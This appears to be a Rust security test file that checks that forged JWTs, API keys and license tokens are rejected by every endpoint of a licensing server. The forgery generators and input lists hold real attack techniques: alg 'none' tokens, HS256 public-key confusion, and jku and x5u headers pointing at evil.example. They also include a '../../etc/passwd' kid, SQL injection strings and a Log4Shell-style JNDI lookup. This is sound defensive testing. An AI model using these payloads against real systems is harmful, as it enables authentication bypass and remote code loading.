//! Invalid credentials, sent to every operation: forged with data that an attacker can know and, to prove that each
//! check works independently of the others, with the issuers' own keys.

use std::{fs, path::Path};

use data_encoding::{BASE64, BASE64URL_NOPAD};
use josekit::jws::{HS256, RS256, RS512};
use shared::domain::rate_limit::RateLimits;
use signet_local::{DataDirectory, Options};
use signet_tests::{Client, Failures, Stack, Value, json, merged, selected, text};

/// Signs a message without checking it.
type Sign<'a> = &'a dyn Fn(&[u8]) -> Vec<u8>;

fn encode_token(header: &Value, claims: &Value, sign: Sign) -> String {
    let encode = |value: &Value| BASE64URL_NOPAD.encode(value.to_string().as_bytes());
    let message = format!("{}.{}", encode(header), encode(claims));
    format!("{message}.{}", BASE64URL_NOPAD.encode(&sign(message.as_bytes())))
}

fn decode_part(token: &str, index: usize) -> Value {
    let part = token.split('.').nth(index).unwrap();
    serde_json::from_slice(&BASE64URL_NOPAD.decode(part.as_bytes()).unwrap()).unwrap()
}

fn rs256(pem: &[u8]) -> impl Fn(&[u8]) -> Vec<u8> {
    let signer = RS256.signer_from_pem(pem).unwrap();
    move |message| josekit::jws::JwsSigner::sign(&signer, message).unwrap()
}

/// Returns the public key in every format that a library might use as an HMAC secret.
fn hmac_secrets(jwk: &Value) -> Vec<Vec<u8>> {
    let bytes = |name: &str| BASE64URL_NOPAD.decode(text(&jwk[name]).as_bytes()).unwrap();
    let number = |name: &str| openssl::bn::BigNum::from_slice(&bytes(name)).unwrap();
    let key = openssl::rsa::Rsa::from_public_components(number("n"), number("e")).unwrap();
    vec![
        bytes("n"),
        text(&jwk["n"]).as_bytes().to_vec(),
        jwk.to_string().into_bytes(),
        key.public_key_to_pem().unwrap(),
        key.public_key_to_pem_pkcs1().unwrap(),
        key.public_key_to_der().unwrap(),
        BASE64.encode(&key.public_key_to_der().unwrap()).into_bytes(),
    ]
}

/// Returns invalid variants of a valid token, each with a description. `own` is the issuer's private key.
fn forgeries(valid: &str, jwk: &Value, own: &[u8]) -> Vec<(String, String)> {
    let (header, claims) = (decode_part(valid, 0), decode_part(valid, 1));
    let [head, body, signature] = valid.split('.').collect::<Vec<_>>()[..] else { panic!("not a JWS") };
    let foreign = openssl::rsa::Rsa::generate(2048).unwrap().private_key_to_pem().unwrap();
    let (own_key, foreign_key) = (rs256(own), rs256(&foreign));
    let mut all: Vec<(String, String)> = Vec::new();
    let mut add = |description: &str, token: String| all.push((description.to_owned(), token));
    let with_header = |parameters: Value| merged(header.clone(), &parameters);

    for alg in ["none", "None", "NONE", "nOnE", ""] {
        add(alg, encode_token(&with_header(json!({"alg": alg})), &claims, &|_| Vec::new()));
        add(alg, encode_token(&json!({"alg": alg}), &claims, &|_| Vec::new()));
    }
    for secret in hmac_secrets(jwk) {
        let Ok(signer) = HS256.signer_from_bytes(&secret) else { continue };
        let sign = move |message: &[u8]| josekit::jws::JwsSigner::sign(&signer, message).unwrap();
        add("HS256 with the public key", encode_token(&with_header(json!({"alg": "HS256"})), &claims, &sign));
    }
    add("another key", encode_token(&header, &claims, &foreign_key));
    add("another key, with a jwk header", encode_token(&with_header(json!({"jwk": jwk})), &claims, &foreign_key));
    add("a jku header", encode_token(&with_header(json!({"jku": "https://evil.example/keys"})), &claims, &own_key));
    add("an x5u header", encode_token(&with_header(json!({"x5u": "https://evil.example/cert"})), &claims, &own_key));
    add("a critical header", encode_token(&with_header(json!({"crit": ["exp"]})), &claims, &own_key));
    add(
        "an unknown critical header",
        encode_token(&with_header(json!({"crit": ["b64"], "b64": false})), &claims, &own_key),
    );
    add("an x5c header", encode_token(&with_header(json!({"x5c": ["MIIB"]})), &claims, &own_key));
    add("a jwk header", encode_token(&with_header(json!({"jwk": jwk})), &claims, &own_key));
    add("an empty crit header", encode_token(&with_header(json!({"crit": []})), &claims, &own_key));
    add("an unknown key", encode_token(&with_header(json!({"kid": "unknown"})), &claims, &own_key));
    for kid in ["", "../../etc/passwd", "' OR 1=1", "\0", &"k".repeat(5000)] {
        add("an invalid kid", encode_token(&with_header(json!({"kid": kid})), &claims, &own_key));
    }
    add("a kid that is a number", encode_token(&with_header(json!({"kid": 5})), &claims, &own_key));
    add("another type", encode_token(&with_header(json!({"typ": "logout+jwt"})), &claims, &own_key));
    let signer = RS512.signer_from_pem(own).unwrap();
    let rs512 = move |message: &[u8]| josekit::jws::JwsSigner::sign(&signer, message).unwrap();
    add("RS512", encode_token(&with_header(json!({"alg": "RS512"})), &claims, &rs512));
    add("RS512 declared as RS256", encode_token(&header, &claims, &rs512));
    let ps256 = |message: &[u8]| {
        let key = openssl::pkey::PKey::private_key_from_pem(own).unwrap();
        let mut signer = openssl::sign::Signer::new(openssl::hash::MessageDigest::sha256(), &key).unwrap();
        signer.set_rsa_padding(openssl::rsa::Padding::PKCS1_PSS).unwrap();
        signer.sign_oneshot_to_vec(message).unwrap()
    };
    add("PS256 declared as RS256", encode_token(&header, &claims, &ps256));

    add("no signature", format!("{head}.{body}."));
    add("no signature and no dot", format!("{head}.{body}"));
    add("a truncated signature", valid[..valid.len() - 4].to_owned());
    add("a signature of zeros", format!("{head}.{body}.{}", BASE64URL_NOPAD.encode(&[0; 256])));
    add("a second signature", format!("{valid}.{signature}"));
    add("padding", format!("{valid}=="));
    add("a line break", format!("{head}\n.{body}.{signature}"));
    for (before, after) in [(" ", ""), ("", " "), ("\t", ""), ("", "\r\n"), ("=", ""), ("", "=")] {
        add("whitespace or padding in the claims", format!("{head}.{before}{body}{after}.{signature}"));
    }
    add(
        "the flattened JSON serialization",
        json!({"protected": head, "payload": body, "signature": signature}).to_string(),
    );
    let parts = json!({"payload": body, "signatures": [{"protected": head, "signature": signature}]});
    add("the general JSON serialization", parts.to_string());
    for duplicate in [r#""alg":"RS256","#, r#""alg":"none","#, r#""kid":"x","#, r#""typ":"JWT","#] {
        let header = BASE64URL_NOPAD.encode(header.to_string().replacen('{', &format!("{{{duplicate}"), 1).as_bytes());
        let message = format!("{header}.{body}");
        add(
            "a duplicate header parameter",
            format!("{message}.{}", BASE64URL_NOPAD.encode(&own_key(message.as_bytes()))),
        );
    }
    add("the standard base64 alphabet", valid.replace('_', "/").replace('-', "+") + "+/");
    add("changed claims", {
        let changed = merged(claims.clone(), &json!({"sub": "another subject"}));
        format!("{head}.{}.{signature}", BASE64URL_NOPAD.encode(changed.to_string().as_bytes()))
    });
    add("five parts, as in a JWE", format!("{head}.{body}.{signature}.{signature}.{signature}"));
    for malformed in [
        "",
        ".",
        "..",
        "...",
        "a.b.c",
        "null",
        "{}",
        "undefined",
        "Bearer",
        "eyJ",
        &".".repeat(20_000),
        &"a".repeat(8_000),
    ] {
        add("malformed", malformed.to_owned());
    }
    for invalid in [json!(null), json!([]), json!("a"), json!(5)] {
        add("claims that are not an object", encode_token(&header, &invalid, &own_key));
    }
    add("a header that is an array", encode_token(&json!(["RS256", header["typ"], header["kid"]]), &claims, &own_key));
    add("too long", encode_token(&header, &merged(claims, &json!({"x": "x".repeat(40_000)})), &own_key));
    all
}

/// Returns a client with a bearer token, or `None` if the token is not a valid header value.
fn with_bearer(stack: &Stack, token: &str) -> Option<Client> {
    let value = format!("Bearer {token}");
    reqwest::header::HeaderValue::from_str(&value).ok()?;
    Some(stack.anonymous.with_header("authorization", &value))
}

/// Returns the signature of a token's header and claims by a key.
fn rs256_signature(token: &str, pem: &[u8]) -> String {
    let (message, _) = token.rsplit_once('.').unwrap();
    BASE64URL_NOPAD.encode(&rs256(pem)(message.as_bytes()))
}

async fn start_with_folder(folder: &DataDirectory) -> Stack {
    Stack::start_with(Options { data: Some(folder), rate_limits: RateLimits::UNLIMITED, ..Options::default() }).await
}

fn read_file(path: &Path) -> Vec<u8> {
    fs::read(path).unwrap()
}

/// Asserts that every operation that requires a credential rejects each of these, and that nothing is written.
async fn assert_rejected_everywhere(stack: &Stack, credentials: &[(String, Client)]) {
    let mut operations = stack.operations().await;
    operations.retain(|operation| !operation.is_public());
    let before = stack.snapshot_items().await;
    let mut failures = Failures::default();
    for (row, operation) in operations.iter().enumerate() {
        for (description, client) in selected(row, credentials) {
            let response = operation.with_caller(client).send_valid().await;
            failures.check(format_args!("{}, {description}", response.request), || {
                response.expect_problem(401, "unauthenticated")
            });
        }
    }
    stack.assert_unchanged_since(&before).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn forged_bearer_tokens_return_401() {
    let path = tempfile::tempdir().unwrap();
    let folder = DataDirectory::open(path.path()).unwrap();
    let stack = start_with_folder(&folder).await;
    let own = read_file(&folder.path().join("oidc-signing-key.pem"));
    let form = [("grant_type", "password"), ("client_id", "signet-dashboard"), ("username", "ada@example.com")];
    let form: Vec<_> = form.into_iter().chain([("password", "x"), ("scope", "openid email role:operator")]).collect();
    let tokens = stack.anonymous.send(reqwest::Method::POST, "/dev/oidc/token", |request| request.form(&form)).await;
    let valid = text(&tokens.expect_status(200)["id_token"]).to_owned();
    with_bearer(&stack, &valid).unwrap().get("customers").await.expect_status(200);
    let jwks = stack.anonymous.get("/dev/oidc/jwks.json").await.expect_status(200);

    let mut forged = forgeries(&valid, &jwks["keys"][0], &own);
    let (header, claims, now) = (decode_part(&valid, 0), decode_part(&valid, 1), stack.clock.now().as_second());
    let signed = |claims: Value| encode_token(&header, &claims, &rs256(&own));
    with_bearer(&stack, &signed(claims.clone())).unwrap().get("customers").await.expect_status(200);
    for (description, change) in [
        ("another audience", json!({"aud": "another-app"})),
        ("other audiences", json!({"aud": ["another-app", "signet"]})),
        ("the audience as an object", json!({"aud": {"signet-dashboard": true}})),
        ("no audience", json!({"aud": null})),
        ("another issuer", json!({"iss": "https://evil.example"})),
        ("an issuer with a longer host name", json!({"iss": format!("{}.evil.example", text(&claims["iss"]))})),
        ("an issuer with a trailing slash", json!({"iss": format!("{}/", text(&claims["iss"]))})),
        ("an array of issuers", json!({"iss": [claims["iss"], "https://evil.example"]})),
        ("no issuer", json!({"iss": null})),
        ("expired", json!({"exp": now - 61})),
        ("a negative exp", json!({"exp": -1})),
        ("no exp", json!({"exp": null})),
        ("an exp that is a string", json!({"exp": "tomorrow"})),
        ("not yet valid", json!({"nbf": now + 3600})),
        ("an nbf that is a string", json!({"nbf": "yesterday"})),
        ("an empty subject", json!({"sub": ""})),
        ("no subject", json!({"sub": null})),
        ("a subject that is a number", json!({"sub": 5})),
        ("a subject with a control character", json!({"sub": "a\0b"})),
        ("bound to a key (cnf)", json!({"cnf": {"jkt": "a"}})),
        ("a logout token", json!({"events": {"http://schemas.openid.net/event/backchannel-logout": {}}})),
        ("a refresh token", json!({"token_use": "refresh"})),
    ] {
        forged.push((description.to_owned(), signed(merged(claims.clone(), &change))));
    }
    let license = stack.operator.issue_new_license(1).await;
    let activated = stack.anonymous.activate(&license.license_key, "one").await.expect_status(201);
    for (description, token) in [
        ("a license token", &license.issued["token"]),
        ("a machine's license token", &activated["token"]),
        ("a license key", &license.issued["license_key"]),
        ("an API key", &json!(stack.local.operator_api_key.expose())),
    ] {
        forged.push((description.to_owned(), text(token).to_owned()));
    }
    let clients: Vec<_> = forged
        .iter()
        .filter_map(|(description, token)| Some((description.clone(), with_bearer(&stack, token)?)))
        .collect();
    assert!(clients.len() > 70, "{}", clients.len());
    assert_rejected_everywhere(&stack, &clients).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn invalid_api_keys_return_401() {
    let stack = Stack::start_without_rate_limits().await;
    let valid = stack.local.operator_api_key.expose().to_owned();
    let (id, secret) = valid.rsplit_once('_').unwrap();
    let license = stack.operator.issue_new_license(1).await;
    let other = json!({"name": "ci", "scopes": ["*"]});
    let other = stack.operator.post("api-keys", other).await.expect_status(201);
    let other = text(&other["api_key"]).to_owned();
    let mut keys = vec![
        String::new(),
        id.to_owned(),
        secret.to_owned(),
        format!("{id}_"),
        format!("{id}_{}", "0".repeat(64)),
        format!("{id}_{}", secret.to_uppercase()),
        format!("{id}_{}", other.rsplit_once('_').unwrap().1),
        valid[..valid.len() - 1].to_owned(),
        format!("{valid}0"),
        format!("{valid}, {valid}"),
        format!("{valid}\t{valid}"),
        format!("\"{valid}\""),
        format!("Bearer {valid}"),
        valid.to_uppercase(),
        valid.replace("signet_", "Signet_"),
        valid.replace("signet_key_", "signet_"),
        "signet_".to_owned(),
        "*".to_owned(),
        "null".to_owned(),
        "' OR '1'='1".to_owned(),
        "${jndi:ldap://evil.example/a}".to_owned(),
        "../APIKEYS".to_owned(),
        "_".repeat(5000),
        "a".repeat(20_000),
        format!("signet_key_{}_{secret}", "0".repeat(26)),
        format!("signet_key_{}_{secret}", "Z".repeat(26)),
    ];
    keys.extend([&license.license_key, &license.license_id, text(&license.issued["token"])].map(str::to_owned));
    let mut clients: Vec<_> =
        keys.iter().map(|key| (format!("{key:.80}"), stack.anonymous.with_header("x-api-key", key))).collect();
    for value in
        ["Basic YTpi", "Bearer", "Bearer ", "bearer  ", "Token a", "Digest x", &valid, "Bearer\u{a0}a", "\"", ","]
    {
        clients.push((value.to_owned(), stack.anonymous.with_header("authorization", value)));
    }
    clients.push(("two credentials".to_owned(), stack.operator.with_header("authorization", "Bearer a.b.c")));
    assert_rejected_everywhere(&stack, &clients).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn forged_license_tokens_return_401() {
    let path = tempfile::tempdir().unwrap();
    let folder = DataDirectory::open(path.path()).unwrap();
    let stack = start_with_folder(&folder).await;
    let license = stack.operator.issue_new_license(2).await;
    let activated = stack.anonymous.activate(&license.license_key, "one").await.expect_status(201);
    let valid = text(&activated["token"]).to_owned();
    let activation = text(&activated["activation"]["id"]).to_owned();
    let keys: Vec<_> = fs::read_dir(folder.path().join("signing-keys"))
        .unwrap()
        .map(|file| read_file(&file.unwrap().path()))
        .collect();
    let jwks = stack.anonymous.get("/.well-known/jwks.json").await.expect_status(200);
    let jwk = jwks["keys"].as_array().unwrap().iter().find(|key| key["kid"] == decode_part(&valid, 0)["kid"]).unwrap();
    let (header, claims) = (decode_part(&valid, 0), decode_part(&valid, 1));
    // RS256 is deterministic, so the signing key is the one that produces the same signature.
    let own = keys.iter().find(|pem| valid.ends_with(&rs256_signature(&valid, pem))).unwrap();
    let signed = |claims: &Value| encode_token(&header, claims, &rs256(own));
    stack.anonymous.heartbeat(&signed(&claims), "one").await.expect_status(200);

    let mut forged = forgeries(&valid, jwk, own);
    for (description, change) in [
        ("another issuer", json!({"iss": "https://evil.example"})),
        ("no issuer", json!({"iss": null})),
        ("no such license", json!({"sub": "lic_01JD8W0V5XK6Q3R7T2N4M8P9ZB"})),
        ("no license id", json!({"sub": "cus_01JD8W0V5XK6Q3R7T2N4M8P9ZB"})),
        ("a subject that is a number", json!({"sub": 5})),
        ("a negative generation", json!({"generation": -1})),
        ("a fractional generation", json!({"generation": 1.5})),
        ("an exp that is a string", json!({"exp": "tomorrow"})),
    ] {
        forged.push((description.to_owned(), signed(&merged(claims.clone(), &change))));
    }
    for typ in [json!("JWT"), json!("at+jwt"), json!("jwk-set+jwt"), json!("LICENSE+JWT"), json!(null), json!(5)] {
        let header = merged(header.clone(), &json!({ "typ": typ }));
        forged.push((format!("type {typ}"), encode_token(&header, &claims, &rs256(own))));
    }
    let form = [("grant_type", "password"), ("client_id", "signet-dashboard"), ("username", "ada@example.com")];
    let form: Vec<_> = form.into_iter().chain([("password", "x"), ("scope", "openid role:operator")]).collect();
    let tokens = stack.anonymous.send(reqwest::Method::POST, "/dev/oidc/token", |request| request.form(&form)).await;
    let tokens = tokens.expect_status(200);
    for name in ["id_token", "access_token"] {
        forged.push((name.to_owned(), text(&tokens[name]).to_owned()));
    }
    // HTTP libraries trim header values; fields of a body are not trimmed.
    for (before, after) in [(" ", ""), ("", " "), ("", "\n"), ("=", "")] {
        forged.push(("surrounding whitespace or padding".to_owned(), format!("{before}{valid}{after}")));
    }
    let set = stack.anonymous.get("/.well-known/jwks.jwt").await;
    assert_eq!(decode_part(&set.text, 0)["typ"], "jwk-set+jwt");
    forged.push(("a signed key set".to_owned(), set.text));
    // The directory also contains the root key.
    for other in keys.iter().filter(|pem| *pem != own) {
        forged.push(("signed by another key of this issuer".to_owned(), encode_token(&header, &claims, &rs256(other))));
    }
    forged.push(("a license key".to_owned(), license.license_key.clone()));
    forged.push(("an API key".to_owned(), stack.local.operator_api_key.expose().to_owned()));
    assert!(forged.len() > 60, "{}", forged.len());

    let before = stack.snapshot_items().await;
    for (description, token) in &forged {
        let machine = json!({"token": token, "machine_id": "one"});
        for (path, body) in [
            ("license-keys/heartbeat".to_owned(), machine.clone()),
            ("license-activations/activate".to_owned(), machine.clone()),
            (format!("license-activations/{activation}/deactivate"), json!({"token": token})),
        ] {
            let response = stack.anonymous.post(&path, body).await;
            let has_other_license =
                description.starts_with("no ") && description.contains("license") && !path.ends_with("heartbeat");
            assert_eq!(
                response.status,
                if has_other_license { response.status } else { 401 },
                "{description}: {} {}",
                response.request,
                response.text
            );
            assert!(matches!(response.status, 401 | 404), "{description}: {} {}", response.request, response.text);
        }
        let validation = stack.anonymous.post("license-keys/validate", machine).await.expect_status(200);
        assert!(matches!(text(&validation["code"]), "token_invalid" | "not_found"), "{description}: {validation}");
        assert_eq!(
            (&validation["valid"], &validation["license"]),
            (&json!(false), &Value::Null),
            "{description}: {validation}"
        );
    }
    stack.assert_unchanged_since(&before).await;
}
